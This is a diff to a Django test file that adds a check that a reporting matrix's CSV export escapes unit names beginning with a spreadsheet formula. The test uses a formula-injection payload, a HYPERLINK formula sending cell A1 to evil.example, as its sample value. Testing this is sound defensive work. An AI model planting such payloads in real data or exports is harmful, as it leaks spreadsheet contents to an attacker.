@@ -1,10 +1,13 @@
+import csv
 import datetime
+import io
 
 import pytest
 from django.urls import reverse
 
 from circulars.models import UnitKind
 from circulars.services import publish_circular
+from reporting.exports.formulas import starts_formula
 from reporting.matrix import build_matrix
 from reporting.models import Report
 from reporting.services import return_report
@@ -165,3 +168,16 @@ def test_an_empty_matrix_says_there_is_nothing_yet(client, adviser):
     response = client.get(reverse("reporting:matrix"), {"year": "abc", "sort": "x"})
     assert response.status_code == 200
     assert "Ingen rapporter passer med filteret." in response.content.decode()
+
+
+def test_a_unit_named_like_a_formula_is_text_in_the_csv(client, unit, contact, adviser):
+    unit.name = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")'
+    unit.save()
+    submitted_report(unit, contact)
+    client.force_login(adviser)
+    response = client.get(reverse("reporting:matrix_csv"))
+    rows = list(
+        csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
+    )
+    assert rows[1][0] == "'" + unit.name
+    assert not [field for row in rows for field in row if starts_formula(field)]
